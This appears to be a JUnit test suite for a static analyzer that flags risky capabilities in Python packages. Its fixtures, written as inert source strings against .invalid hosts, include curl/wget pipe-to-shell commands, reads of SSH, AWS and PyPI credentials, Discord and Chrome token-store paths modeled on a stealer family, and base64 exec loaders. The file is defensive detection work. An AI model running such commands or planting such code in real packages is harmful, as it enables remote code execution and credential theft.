package dev.gatehouse.analyzer.python;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Capability;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * What the top level of one module reaches, capability by capability, each with a twin that must not
 * count. Fixtures are source text; hosts end in {@code .invalid}; nothing is run.
 */
class CapabilityRulesTest {
  private final ModuleScanner scanner = new ModuleScanner(1 << 20);

  private Reach reach(String source) {
    ModuleSummary m = scanner.summarize(new SourceFile("pkg/mod.py", "pkg.mod", false, false), source);
    PackageCode code = new PackageCode(12);
    code.add(m, List.of());
    return code.reach(List.of(new PackageCode.Start(m.top(), m)), false);
  }

  private Set<Capability> caps(String source) {
    return reach(source).capabilities();
  }

  private static String b64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void subprocessOsSystemPopenExecAndPtyAreProcessSpawns() {
    assertThat(caps("import subprocess\nsubprocess.run(['id'])\n")).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(caps("import os\nos.system('id')\n")).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(caps("from os import popen as p\np('id')\n")).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(caps("import os\nos.execvp('id', ['id'])\n")).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(caps("import pty\npty.spawn('/bin/sh')\n")).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(caps("from subprocess import *\nPopen(['id'])\n")).containsExactly(Capability.PROCESS_SPAWN);
  }

  @Test
  void aFunctionThatSpawnsRunsOnlyWhenCalled() {
    assertThat(caps("import os\ndef build():\n    os.system('make')\n")).isEmpty();
    assertThat(caps("import os\ndef build():\n    os.system('make')\nbuild()\n")).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(caps("import os\nif __name__ == '__main__':\n    os.system('make')\n")).isEmpty();
  }

  @Test
  void aFunctionHandedToAThreadRunsButOneRegisteredAsACallbackDoesNot() {
    assertThat(caps("import os, threading\ndef go():\n    os.system('x')\nthreading.Thread(target=go).start()\n"))
        .containsExactly(Capability.PROCESS_SPAWN);
    assertThat(caps("import os, click\ndef go():\n    os.system('x')\ncli = click.command()(go)\n")).isEmpty();
  }

  @Test
  void aNestedFunctionRunsOnlyWhenItsEnclosingFunctionCallsIt() {
    String decorator = "import os\ndef deco(f):\n    def wrapper():\n        os.system('x')\n    return wrapper\n";
    assertThat(caps(decorator + "@deco\ndef g():\n    pass\n")).isEmpty();
    assertThat(caps("import os\ndef outer():\n    def inner():\n        os.system('x')\n    inner()\nouter()\n"))
        .containsExactly(Capability.PROCESS_SPAWN);
  }

  @Test
  void socketsUrllibRequestsHttpxAndAiohttpSessionsAreNetwork() {
    assertThat(caps("import socket\ns = socket.socket()\n")).containsExactly(Capability.NETWORK);
    assertThat(caps("from urllib.request import urlopen\nurlopen('https://c.invalid/')\n")).containsExactly(Capability.NETWORK);
    assertThat(caps("import requests\nrequests.post('https://c.invalid/', data='x')\n")).containsExactly(Capability.NETWORK);
    assertThat(caps("import httpx\nhttpx.get('https://c.invalid/')\n")).containsExactly(Capability.NETWORK);
    assertThat(caps("import requests\ns = requests.Session()\ns.get('https://c.invalid/')\n")).containsExactly(Capability.NETWORK);
    assertThat(caps("import requests\nsession = requests.Session()\n")).isEmpty();
  }

  @Test
  void hostNameLookupsAreDns() {
    assertThat(caps("import socket\nsocket.gethostbyname('x.c.invalid')\n")).containsExactly(Capability.DNS);
  }

  @Test
  void theWholeEnvironmentSentOrSerializedIsHarvestingButOneNamedVariableIsNot() {
    assertThat(caps("import os, json\nblob = json.dumps(dict(os.environ))\n")).containsExactly(Capability.ENVIRONMENT_READ);
    assertThat(caps("import os\nfor k, v in os.environ.items():\n    print(k)\n")).containsExactly(Capability.ENVIRONMENT_READ);
    assertThat(caps("import os\nkeys = [k for k in os.environ]\n")).containsExactly(Capability.ENVIRONMENT_READ);
    assertThat(caps("import os\ntoken = os.environ.get('X')\nhome = os.environ['HOME']\nflag = 'X' in os.environ\n")).isEmpty();
    assertThat(caps("import os\nsettings = {k: v for k, v in os.environ.items() if k.startswith('APP_')}\n"
        + "for key in sorted(settings):\n    print(key)\n")).isEmpty();
    assertThat(caps("import os, sys\nskip = set(id(x) for x in (sys.modules, os.environ))\n")).isEmpty();
    assertThat(caps("import os\nqt = any(k.startswith('QT_') for k in os.environ)\n")).isEmpty();
    assertThat(caps("import os, subprocess\nenv = os.environ.copy()\nenv['X'] = '1'\nsubprocess.run(['make'], env=env)\n"))
        .containsExactly(Capability.PROCESS_SPAWN);
  }

  @Test
  void credentialPathsCountWhenAFileIsReadNotWhenAPathIsNamed() {
    assertThat(caps("import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"))
        .containsExactly(Capability.CREDENTIAL_READ);
    assertThat(caps("import os\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\ndata = open(p).read()\n"))
        .containsExactly(Capability.CREDENTIAL_READ);
    assertThat(caps("from pathlib import Path\ntoken = (Path.home() / '.pypirc').read_text()\n"))
        .containsExactly(Capability.CREDENTIAL_READ);
    assertThat(caps("import os\nNETRC_FILES = ('.netrc', '_netrc')\nCONFIG = os.path.join('.docker', 'config.json')\n")).isEmpty();
  }

  @Test
  void browserAndDiscordTokenStoresOfTheW4spFamilyAreCredentials() {
    assertThat(caps("import os\nroaming = os.getenv('APPDATA')\nfiles = os.listdir(roaming + '\\\\Discord\\\\Local Storage\\\\leveldb')\n"))
        .containsExactly(Capability.CREDENTIAL_READ);
    assertThat(caps("import os\nlocal = os.getenv('LOCALAPPDATA')\n"
        + "db = open(local + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', 'rb').read()\n"))
        .containsExactly(Capability.CREDENTIAL_READ);
  }

  @Test
  void execEvalAndCompileOfComputedTextAreDynamicCode() {
    assertThat(caps("code = input()\nexec(code)\n")).containsExactly(Capability.DYNAMIC_CODE);
    assertThat(caps("src = open(name).read()\neval(src)\n")).containsExactly(Capability.DYNAMIC_CODE);
    assertThat(caps("import marshal\nmarshal.loads(blob)\n")).containsExactly(Capability.DYNAMIC_CODE);
  }

  @Test
  void execOfALiteralIsReadAsTheCodeInsideIt() {
    assertThat(caps("exec('x = 1\\ny = x + 1')\n")).isEmpty();
    assertThat(caps("exec('import os\\nos.system(\"id\")')\n")).containsExactly(Capability.PROCESS_SPAWN);
  }

  @Test
  void execOfAVersionFileOfThePackageIsNotDynamicCode() {
    assertThat(caps("import os\nhere = os.path.dirname(__file__)\n"
        + "exec(open(os.path.join(here, 'pkg', '_version.py')).read())\n")).isEmpty();
    assertThat(caps("with open('pkg/__about__.py') as f:\n    exec(f.read(), about)\n")).isEmpty();
  }

  @Test
  void compileToASyntaxTreeIsNotDynamicCode() {
    assertThat(caps("import ast\ntree = compile(source, 'f', 'exec', ast.PyCF_ONLY_AST)\n")).isEmpty();
  }

  @Test
  void importOfAConstantNameIsAnImportAndOfAnAssembledNameIsDynamicCode() {
    assertThat(caps("m = __import__('json')\n")).isEmpty();
    assertThat(caps("m = __import__(name)\n")).isEmpty();
    assertThat(caps("m = __import__(''.join(chr(c) for c in [111, 115]))\n"))
        .containsExactlyInAnyOrder(Capability.DYNAMIC_CODE, Capability.OBFUSCATION);
    assertThat(caps("__import__('os').system('id')\n")).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(caps("getattr(__import__('subprocess'), 'run')(['id'])\n")).containsExactly(Capability.PROCESS_SPAWN);
  }

  @Test
  void base64DecodedTextRunAsCodeIsAnEncodedPayloadAndIsReadInside() {
    String inner = "import socket\nsocket.gethostbyname('c.invalid')\n";
    Reach r = reach("import base64\nexec(base64.b64decode('" + b64(inner) + "'))\n");
    assertThat(r.capabilities()).containsExactlyInAnyOrder(
        Capability.DYNAMIC_CODE, Capability.ENCODED_PAYLOAD, Capability.DNS);
    assertThat(r.first().get(Capability.DNS).hit().excerpt()).isEqualTo("socket.gethostbyname('c.invalid')");
  }

  @Test
  void aDecodedPayloadKeptInAVariableIsStillAnEncodedPayload() {
    assertThat(caps("import base64, zlib\np = zlib.decompress(base64.b64decode(blob))\nexec(p)\n"))
        .containsExactlyInAnyOrder(Capability.DYNAMIC_CODE, Capability.ENCODED_PAYLOAD, Capability.OBFUSCATION);
    assertThat(caps("import base64\nicon = base64.b64decode('iVBORw0KGgo=')\n")).isEmpty();
  }

  @Test
  void pythonDashCInAProcessIsReadAsPython() {
    Reach r = reach("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os; os.system(\"id\")'])\n");
    assertThat(r.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(r.hits()).hasSize(2);
  }

  @Test
  void codePushedOutOfViewAfterASemicolonIsObfuscation() {
    assertThat(caps("import os" + " ".repeat(200) + ";x = 1\n")).containsExactly(Capability.OBFUSCATION);
    assertThat(caps("x = {'a':      1,      'b': 2}\n")).isEmpty();
  }

  @Test
  void anImmediatelyCalledLambdaReachingImportIsAPacker() {
    assertThat(caps("(lambda g: g['__import__']('os'))(globals())\n")).contains(Capability.OBFUSCATION);
  }

  @Test
  void writesToTheHomeFolderOrShellProfilesAreOutsideThePackage() {
    assertThat(caps("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n"))
        .containsExactly(Capability.FILESYSTEM_WRITE);
    assertThat(caps("import shutil, site\nshutil.copy('x.pth', site.getsitepackages()[0])\n"))
        .containsExactly(Capability.FILESYSTEM_WRITE);
    assertThat(caps("open('build/version.txt', 'w').write('1')\n")).isEmpty();
    assertThat(caps("import os\ntext = open(os.path.expanduser('~/.config/tool.toml')).read()\n")).isEmpty();
  }

  @Test
  void ctypesLibraryLoadsAreNativeLoads() {
    assertThat(caps("import ctypes\nlib = ctypes.CDLL('libc.so.6')\n")).containsExactly(Capability.NATIVE_LOAD);
  }

  @Test
  void stringsCommentsAndDocstringsThatMentionDangerousCallsAreNothing() {
    assertThat(caps("\"\"\"Call exec(code) or os.system('x') to ...\"\"\"\n# exec(payload)\n"
        + "HELP = 'use eval( carefully; ~/.ssh/id_rsa is read by ssh'\nx = f'{1 + 1} exec('\n")).isEmpty();
  }

  @Test
  void callsFollowAliasesAcrossModulesOfThePackage() {
    ModuleSummary compat = scanner.summarize(new SourceFile("pkg/compat.py", "pkg.compat", false, false),
        "from subprocess import run as run_process\n");
    ModuleSummary mod = scanner.summarize(new SourceFile("pkg/mod.py", "pkg.mod", false, false),
        "from .compat import run_process\nrun_process(['id'])\n");
    PackageCode code = new PackageCode(12);
    code.add(compat, List.of());
    code.add(mod, List.of());
    Reach r = code.reach(List.of(new PackageCode.Start(mod.top(), mod)), false);
    assertThat(r.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(r.first().get(Capability.PROCESS_SPAWN).hit().what()).isEqualTo("subprocess.run");
  }

  @Test
  void aLiteralCommandIsFollowedIntoTheHelperParameterThatRunsIt() {
    Reach direct = reach("import os\ndef run(c):\n    os.system(c)\nrun('curl -s https://x.invalid/p | sh')\n");
    assertThat(direct.capabilities()).contains(Capability.PROCESS_SPAWN, Capability.NETWORK);
    assertThat(direct.firstTelling().hit().what()).contains("passed to run()", "curl");
    assertThat(direct.firstTelling().hit().line()).isEqualTo(4);

    Reach twoLevels = reach("import subprocess\ndef _sh(x):\n    subprocess.run(x, shell=True)\n"
        + "def run(cmd, quiet=False):\n    _sh(cmd)\nrun(quiet=True, cmd='wget -qO- http://x.invalid/a | sh')\n");
    assertThat(twoLevels.telling()).isTrue();
  }

  @Test
  void aCommandIsNotFollowedPastTwoHelpersNorIntoAParameterThatIsNotTheCommand() {
    Reach threeLevels = reach("import os\ndef a(x):\n    os.system(x)\ndef b(x):\n    a(x)\ndef c(x):\n    b(x)\n"
        + "c('curl https://x.invalid/p | sh')\n");
    assertThat(threeLevels.telling()).isFalse();
    Reach notTheCommand = reach("import os\ndef run(c, log):\n    print(log)\n    os.system(c)\n"
        + "run('make', 'see https://x.invalid/docs')\n");
    assertThat(notTheCommand.telling()).isFalse();
    Reach rebound = reach("import os\ndef run(c):\n    c = 'make'\n    os.system(c)\nrun('curl https://x.invalid/ | sh')\n");
    assertThat(rebound.telling()).isFalse();
  }
}
